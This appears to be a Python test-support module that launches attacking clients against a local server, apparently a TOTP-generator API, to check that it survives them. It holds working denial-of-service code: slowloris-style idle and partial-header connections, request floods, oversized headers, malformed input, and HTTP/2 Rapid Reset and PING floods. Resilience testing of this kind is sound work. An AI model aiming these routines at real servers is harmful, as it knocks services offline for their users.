"""Clients that attack a server. Each is a function that goes on until its process is killed.

Their addresses are 127.3.0.1 and those behind it, 200 connections to each, so that they are not held to the limit of one
address, and take no place of that which good clients have. Python's standard library is all they need.
"""

import functools
import itertools
import multiprocessing
import os
import resource
import selectors
import socket
import struct
import threading
import time

CROWD = 500
PATH = "/v1/totpgenerator?secret=JBSWY3DPEHPK3PXP"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# Kinds of frames and flags (RFC 9113 section 6).
HEADERS, RST_STREAM, SETTINGS, PING = 1, 3, 4, 6
END_STREAM_AND_HEADERS = 5


def request(key, path=PATH):
    """The bytes of a good request."""
    return f"GET {path} HTTP/1.1\r\nHost: t\r\nX-API-Key: {key}\r\n\r\n".encode()


def frame(kind, flags, stream, payload=b""):
    """The bytes of a frame of HTTP/2."""
    return struct.pack("!I", len(payload))[1:] + struct.pack("!BBI", kind, flags, stream) + payload


def head(path=PATH):
    """The head of a GET, by HPACK without compression (RFC 7541)."""
    return bytes([0x82, 0x86, 0x04, len(path)]) + path.encode() + b"\x01\x01t"


def connect(address, number=0):
    """A connection, the so-manieth of its client."""
    connection = socket.socket()
    connection.settimeout(10)
    connection.bind((f"127.3.0.{1 + number // 200}", 0))
    connection.connect(address)
    return connection


def answers(connection, count):
    """Reads whole answers; `OSError` when the server hangs up."""
    with connection.makefile("rb") as file:
        for _ in range(count):
            length = 0
            if not file.readline():
                raise ConnectionError("closed")
            while line := file.readline().strip():
                name, _, value = line.lower().partition(b": ")
                length = int(value) if name == b"content-length" else length
            file.read(length)


def crowd(address, first, pieces, pause_s):
    """Many connections: each gets `first`, then a piece after each pause, and is made anew when it is closed."""
    connections = {}
    selector = selectors.DefaultSelector()
    while True:
        for number in set(range(CROWD)) - {number for number, _ in connections.values()}:
            try:
                connection = connect(address, number)
                connection.send(first)
                connection.setblocking(False)
            except OSError:
                continue
            connections[connection] = (number, itertools.cycle(pieces))
            selector.register(connection, selectors.EVENT_READ)
        for connection, (_, pieces_left) in connections.items():
            try:
                connection.send(next(pieces_left, b""))
            except OSError:
                pass
        end_s = time.monotonic() + pause_s
        while (left_s := end_s - time.monotonic()) > 0:
            for ready, _ in selector.select(left_s):
                try:
                    is_open = bool(ready.fileobj.recv(65536))
                except OSError:
                    is_open = False
                if not is_open:
                    selector.unregister(ready.fileobj)
                    del connections[ready.fileobj]
                    ready.fileobj.close()


def idle(address, _key):
    """Connections on which nothing is said."""
    crowd(address, b"", [], 1)


def partial_heads(address, key):
    """Heads that never end."""
    crowd(address, request(key)[:-2], [], 1)


def byte_a_second(address, key):
    """Requests of which a byte comes each second."""
    text = request(key)
    crowd(address, b"", [text[at : at + 1] for at in range(len(text))], 1)


def again_and_again(attack):
    """An attack whose connections end, and come again."""

    @functools.wraps(attack)
    def forever(address, key):
        for number in itertools.count():
            try:
                with connect(address, number % CROWD) as connection:
                    attack(connection, key)
            except OSError:
                pass

    return forever


@again_and_again
def churn(connection, key):
    """A connection for each call, and hardly waiting for the answer."""
    connection.sendall(request(key))
    connection.recv(1)


@again_and_again
def flood(connection, key):
    """As many calls as are taken, half of them with a key that is none."""
    batch = (request(key) + request("none")) * 8
    while True:
        connection.sendall(batch)
        answers(connection, 16)


@again_and_again
def greedy(connection, key):
    """Calls for large answers, none of which is read."""
    connection.settimeout(1)
    while True:
        connection.sendall(request(key, "/openapi.json") * 10)


@again_and_again
def oversized_heads(connection, key):
    """Heads of 100,000 bytes."""
    connection.sendall(request(key)[:-2] + b"X: " + b"a" * 100_000)
    answers(connection, 1)


@again_and_again
def hang_ups(connection, key):
    """Calls that break off, each a byte later."""
    body = b'{"secret": "JBSWY3DPEHPK3PXP"}'
    lines = ["POST /v1/totpgenerator HTTP/1.1", "Host: t", f"X-API-Key: {key}", f"Content-Length: {len(body)}"]
    text = "\r\n".join([*lines, "Content-Type: application/json", "", ""]).encode() + body
    hang_ups.at = (getattr(hang_ups, "at", 0) + 1) % (len(text) + 1)
    connection.sendall(text[: hang_ups.at])


@again_and_again
def garbage(connection, key):
    """What is no HTTP and no TLS, or hardly."""
    for text in [b"\x16\x03\x01\x02\x00\x01", b"GET / HTTP/7\r\n\r\n", b"\0" * 100, request(key).replace(b"\r", b"")]:
        connection.sendall(text)


@again_and_again
def rapid_reset(connection, _key):
    """Calls by HTTP/2 that are taken back as they are made."""
    connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
    for first in itertools.count(1, 200):
        streams = range(first, first + 200, 2)
        taken_back = [
            frame(HEADERS, END_STREAM_AND_HEADERS, stream, head()) + frame(RST_STREAM, 0, stream, struct.pack("!I", 8))
            for stream in streams
        ]
        connection.sendall(b"".join(taken_back))


@again_and_again
def pings(connection, _key):
    """Nothing but PING, by HTTP/2."""
    connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
    while True:
        connection.sendall(frame(PING, 0, 0, b"12345678") * 100)
        connection.recv(65536)


class Attacks:
    """Attacks under way, each in a process of its own, until this ends."""

    def __init__(self, address, key, *attacks):
        fork = multiprocessing.get_context("fork")
        self._processes = [
            fork.Process(target=_run, args=(attack, address, key), name=attack.__name__, daemon=True) for attack in attacks
        ]

    def __enter__(self):
        for process in self._processes:
            process.start()
        return self

    def __exit__(self, *_):
        for process in self._processes:
            process.kill()
            process.join()

    def have_ended(self):
        """Those that ended by themselves, which none should."""
        return [process.name for process in self._processes if not process.is_alive()]


def _run(attack, address, key):
    # Good clients come first, where there are few cores for all of them.
    os.nice(10)
    threading.Thread(target=_end_with, args=(os.getppid(),), daemon=True).start()
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most if most != resource.RLIM_INFINITY else 65_536, most))
    attack(address, key)


def _end_with(parent):
    """Nobody attacks for longer than somebody looks."""
    while os.getppid() == parent:
        time.sleep(0.5)
    os._exit(0)
